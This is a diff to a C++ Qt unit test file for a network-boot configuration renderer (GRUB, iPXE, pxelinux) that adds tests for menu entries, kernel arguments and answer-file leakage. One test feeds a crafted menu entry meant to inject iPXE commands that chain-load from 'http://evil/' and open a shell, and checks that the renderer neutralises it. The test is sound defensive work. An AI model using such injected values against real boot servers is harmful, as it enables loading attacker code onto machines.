@@ -80,6 +80,11 @@ private Q_SLOTS:
     void pxelinuxAddsBootifItself();
     void portsOtherThan80AreNamedEverywhere();
     void grubQuotesArguments();
+    void grubStartsLinuxAsItKnowsTo();
+    void entriesGetNoAnswerFile();
+    void unknownEntriesAreParked();
+    void menusCannotSpeakToIpxe();
+    void extraArgumentsFollowThoseOfTheEntry();
 };
 
 void TestLoaderConfig::rendersTextForText_data() {
@@ -88,11 +93,20 @@ void TestLoaderConfig::rendersTextForText_data() {
     QTest::newRow("parked-briefly") << 1;
     QTest::newRow("install") << 2;
     QTest::newRow("local") << 3;
+    QTest::newRow("entry") << 4;
+    QTest::newRow("kernel-only") << 5;
+    QTest::newRow("efi-program") << 6;
 }
 
 void TestLoaderConfig::rendersTextForText() {
     QFETCH(int, disposition);
-    const std::array machines{parkedMachine(1), brieflyParked(), approvedMachine(1), localMachine()};
+    const std::array machines{parkedMachine(1),
+                              brieflyParked(),
+                              approvedMachine(1),
+                              localMachine(),
+                              approvedFor(1, "Rescue a system"),
+                              approvedFor(1, "Memory test"),
+                              approvedFor(1, "UEFI memory test")};
     const MachineBoot& machine = machines[static_cast<std::size_t>(disposition)];
     const ImageFiles image = rockyImage();
     const QString tag = QString::fromLatin1(QTest::currentDataTag());
@@ -230,7 +244,7 @@ void TestLoaderConfig::grubStateTellsWhenToGoOn() {
     QCOMPARE(renderGrubState(parkedMachine(1), &image), std::string("set state=parked\n"));
     QCOMPARE(renderGrubState(approvedMachine(1), nullptr), std::string("set state=parked\n"));
     QCOMPARE(renderGrubState(approvedMachine(1), &image), std::string("set state=go\n"));
-    QCOMPARE(renderGrubState(localMachine(), &image), std::string("set state=go\n"));
+    QCOMPARE(renderGrubState(localMachine(), &image), std::string("set state=disk\n"));
 }
 
 void TestLoaderConfig::textOfOthersCannotBecomeACommand_data() {
@@ -410,6 +424,56 @@ void TestLoaderConfig::grubQuotesArguments() {
     MachineBoot machine = approvedMachine(1);
     machine.kernelArguments = "a=b;c d=$e f='g'";
     QVERIFY(contains(renderGrub(machine, &image, server()), " 'a=b;c' 'd=$e' 'f='\\''g'\\'''; then"));
+}
+
+void TestLoaderConfig::grubStartsLinuxAsItKnowsTo() {
+    const ImageFiles image = rockyImage();
+    const std::string either = renderGrub(approvedMachine(1), &image, server());
+    QVERIFY(contains(either, "if linux (") && contains(either, "if linuxefi (") &&
+            contains(either, "initrdefi"));
+    const std::string plain = renderGrub(approvedMachine(1), &image, server(), "linux");
+    QVERIFY(contains(plain, "if linux (") && contains(plain, "if initrd (") && !contains(plain, "efi ("));
+    const std::string old = renderGrub(approvedMachine(1), &image, server(), "linuxefi");
+    QVERIFY(contains(old, "if linuxefi (") && contains(old, "if initrdefi (") &&
+            !contains(old, "if linux ("));
+}
+
+// R42
+void TestLoaderConfig::entriesGetNoAnswerFile() {
+    const ImageFiles image = rockyImage();
+    for (const char* const entry : {"Install", "Rescue a system", "Memory test"}) {
+        for (const std::string& text : everyRendering(approvedFor(1, entry), &image)) {
+            QVERIFY2(!contains(text, ticket), text.c_str());
+            QVERIFY2(!contains(text, "/repo"), text.c_str()); // it is gone as soon as the entry runs
+        }
+    }
+}
+
+void TestLoaderConfig::unknownEntriesAreParked() {
+    const ImageFiles image = rockyImage();
+    for (const std::string& text : everyRendering(approvedFor(1, "Rescue"), &image))
+        QVERIFY2(!hasKernelLine(text), text.c_str());
+    QCOMPARE(kernelArguments(approvedFor(1, "Rescue"), image, server()), std::string());
+}
+
+void TestLoaderConfig::menusCannotSpeakToIpxe() {
+    ImageFiles image = rockyImage();
+    image.entries = {
+        {"x || shell", "isolinux/memtest", {}, "a || chain http://evil/ && b ${net0/mac} c\nshell"}};
+    const std::string text = renderIpxe(approvedFor(1, "x || shell"), &image, server());
+    QVERIFY2(contains(text, "/vmlinuz a chain http://evil/ b c shell || goto retry\n"), text.c_str());
+    QVERIFY(contains(text, "echo Starting x ?? shell of "));
+    QVERIFY(!contains(renderPxelinux(approvedFor(1, "x || shell"), &image, server()), "\nshell"));
+}
+
+void TestLoaderConfig::extraArgumentsFollowThoseOfTheEntry() {
+    MachineBoot machine = approvedFor(1, "Rescue a system");
+    machine.kernelArguments = "console=ttyS0";
+    QCOMPARE(kernelArguments(machine, rockyImage(), server()),
+             std::string("inst.stage2=http://192.168.0.251/i/rocky-9 inst.rescue quiet ip=dhcp "
+                         "BOOTIF=01-52-54-00-00-00-01 console=ttyS0"));
+    machine.menuEntry = "UEFI memory test";
+    QCOMPARE(kernelArguments(machine, rockyImage(), server()), std::string("console=ttyS0"));
 }
 
 QTEST_APPLESS_MAIN(TestLoaderConfig)
